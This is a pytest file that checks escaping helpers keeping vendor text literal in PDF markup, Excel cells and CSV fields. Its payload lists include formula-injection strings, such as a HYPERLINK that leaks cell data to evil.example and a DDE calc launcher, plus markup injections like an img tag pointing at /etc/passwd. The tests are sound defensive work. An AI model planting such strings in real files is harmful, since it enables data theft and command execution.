"""The escaping helpers: vendor text stays text in PDF markup and in worksheet cells."""

from __future__ import annotations

import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from pypdf import PdfReader
from reportlab.lib.styles import ParagraphStyle
from reportlab.platypus import Paragraph, SimpleDocTemplate

from computescore.errors import InputRefused
from computescore.reports import pdf as pdf_module
from computescore.reports.safe import (
    EXCEL_MAX_CELL_CHARS,
    FORMULA_TRIGGERS,
    REPLACEMENT,
    CellTextTooLong,
    chart_label,
    clean_text,
    clip,
    csv_field,
    escape_markup,
    pdf_text,
    write_text,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "-15.5",
    "#N/A",
    "=",
    "'=already quoted",
]


def test_escape_markup_turns_every_tag_into_literal_text() -> None:
    assert escape_markup('<b>Acme & Sons</b> "x"') == (
        "&lt;b&gt;Acme &amp; Sons&lt;/b&gt; &quot;x&quot;"
    )
    assert escape_markup("Fish &amp Chips") == "Fish &amp;amp Chips"


def test_escape_markup_keeps_line_breaks_and_replaces_controls() -> None:
    assert escape_markup("a\r\nb\nc\rd\te") == "a<br/>b<br/>c<br/>d e"
    assert escape_markup("x\x00y\x08z\x0b") == f"x{REPLACEMENT}y{REPLACEMENT}z{REPLACEMENT}"


def test_pdf_text_wraps_runs_the_body_face_lacks() -> None:
    covered = set("Dragon Compute")
    markup = pdf_text("Dragon 数据 Compute 中", lambda c: c in covered, "CJK")
    assert markup == 'Dragon <font face="CJK">数据</font> Compute <font face="CJK">中</font>'


def test_clip_says_how_much_it_left_out() -> None:
    text = "x" * 1000
    clipped = clip(text, 100)
    assert len(clipped) == 100
    assert clipped.endswith("… (+901 chars)")  # 1000 − 100 + 1 characters replaced by the note
    assert clip("short", 100) == "short"


def test_chart_label_is_one_short_line() -> None:
    assert chart_label("Acme\nCloud   Ltd") == "Acme Cloud Ltd"
    assert chart_label("A" * 40, 10) == "A" * 9 + "…"


def test_clean_text_keeps_tabs_and_newlines() -> None:
    assert clean_text("a\tb\nc\x1fd\x7f") == f"a\tb\nc{REPLACEMENT}d{REPLACEMENT}"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_write_text_never_makes_a_formula(payload: str) -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    cell = write_text(ws["A1"], payload)
    assert cell.data_type == "s"
    assert cell.quotePrefix is payload.startswith(FORMULA_TRIGGERS)
    buffer = io.BytesIO()
    wb.save(buffer)
    back = load_workbook(io.BytesIO(buffer.getvalue()))
    back_cell = back.active["A1"]  # type: ignore[index]
    assert back_cell.data_type == "s"
    # Without lxml openpyxl reads a bare CR back as LF; with lxml it keeps it.
    assert back_cell.value in (payload, payload.replace("\r", "\n"))


def test_write_text_replaces_illegal_control_characters() -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    write_text(ws["A1"], "Acme\x00\x08\x0b Ltd")
    assert ws["A1"].value == f"Acme{REPLACEMENT * 3} Ltd"


def test_write_text_refuses_text_longer_than_a_cell() -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = "Quotes"
    write_text(ws["B2"], "x" * EXCEL_MAX_CELL_CHARS)  # exactly at the limit is fine
    with pytest.raises(CellTextTooLong) as caught:
        write_text(ws["B3"], "x" * (EXCEL_MAX_CELL_CHARS + 1))
    assert isinstance(caught.value, InputRefused)
    assert "Quotes!B3" in caught.value.message
    assert "32,768 characters" in caught.value.message


def test_csv_field_prefixes_trigger_characters() -> None:
    assert csv_field("=1+1") == "'=1+1"
    assert csv_field("@SUM(1)") == "'@SUM(1)"
    assert csv_field("Acme") == "Acme"
    assert csv_field(3.5) == 3.5


_TEXT = st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=60)


@given(prefix=st.sampled_from(["", *FORMULA_TRIGGERS, "#", "'"]), body=_TEXT)
def test_any_text_round_trips_through_a_workbook_as_text(prefix: str, body: str) -> None:
    value = prefix + body
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    write_text(ws["A1"], value)
    buffer = io.BytesIO()
    wb.save(buffer)
    back = load_workbook(io.BytesIO(buffer.getvalue()))["Sheet"]["A1"]
    # Characters XML 1.0 cannot carry are replaced; without lxml, XML end-of-line
    # handling reads CR LF and a lone CR back as LF (with lxml they are kept).
    kept = ILLEGAL_CHARACTERS_RE.sub(REPLACEMENT, value)
    expected = (kept, kept.replace("\r\n", "\n").replace("\r", "\n"))
    if value:
        assert back.data_type == "s"
        assert back.value in expected
    else:
        assert back.value is None


# Format characters (soft hyphen, zero-width joiners) are invisible by design.
_PRINTABLE = st.text(
    alphabet=st.characters(
        min_codepoint=0x20, max_codepoint=0x24F, exclude_categories=("Cs", "Cc", "Cf", "Zl", "Zp")
    ),
    min_size=1,
    max_size=40,
)
_HOSTILE = st.sampled_from(
    [
        "<b>bold forever",
        '<a href="https://evil.example/pay">click</a>',
        '<img src="/etc/passwd"/>',
        "Fish &amp Chips",
        '<font color="white">hidden</font>',
        "<unichar code=0/>",
        "Smith <Jones> Ltd",
        "Müller & Söhne",
    ]
)


_CJK = st.text(alphabet=st.characters(min_codepoint=0x4E00, max_codepoint=0x4FFF), min_size=1)


@given(
    text=st.one_of(
        _PRINTABLE,
        _HOSTILE,
        st.tuples(_HOSTILE, _PRINTABLE).map("".join),
        st.tuples(_PRINTABLE, _CJK, _HOSTILE).map("".join),
    )
)
def test_escaped_text_in_a_paragraph_never_raises_and_extracts_back(text: str) -> None:
    pdf_module.prepare_fonts()
    style = ParagraphStyle("p", fontName="CS-Sans", fontSize=9, leading=11)
    buffer = io.BytesIO()
    doc = SimpleDocTemplate(buffer, invariant=1)
    doc.build([Paragraph(pdf_module.t(text), style)])
    extracted = PdfReader(io.BytesIO(buffer.getvalue())).pages[0].extract_text()
    assert "".join(extracted.split()) == "".join(text.split())


def test_chart_label_keeps_the_reference_that_tells_a_vendors_quotes_apart() -> None:
    first = chart_label("Kessler Systemhaus GmbH — KS-AN-2026-0419", 32)
    second = chart_label("Kessler Systemhaus GmbH — KS-AN-2026-0419-L", 32)
    # The legal form goes first, then the name is cut at a word.
    assert first == "Kessler… — KS-AN-2026-0419"
    assert second == "Kessler… — KS-AN-2026-0419-L"
    assert chart_label("Kessler Systemhaus GmbH — KS-AN-2026-0419-L", 38) == (
        "Kessler Systemhaus — KS-AN-2026-0419-L"
    )
    assert chart_label("Qingyun Zhisuan Technology Co., Ltd. — QY-2026-1108", 38) == (
        "Qingyun Zhisuan… — QY-2026-1108"
    )
    # Every vendor's legal form is left off, so the labels read alike.
    assert chart_label("Stratus Cloud, Inc. — SC-2026-1147", 38) == "Stratus Cloud — SC-2026-1147"
    # A name with no word boundary to cut at is cut inside its word.
    assert chart_label("Supercalifragilistic GmbH — R-1", 16) == "Supercali… — R-1"
    # A reference too long to keep is cut like any other text.
    assert chart_label("Vendor — " + "R" * 40, 20) == "Vendor — RRRRRRRRRR…"
    assert chart_label("Short — ok", 32) == "Short — ok"
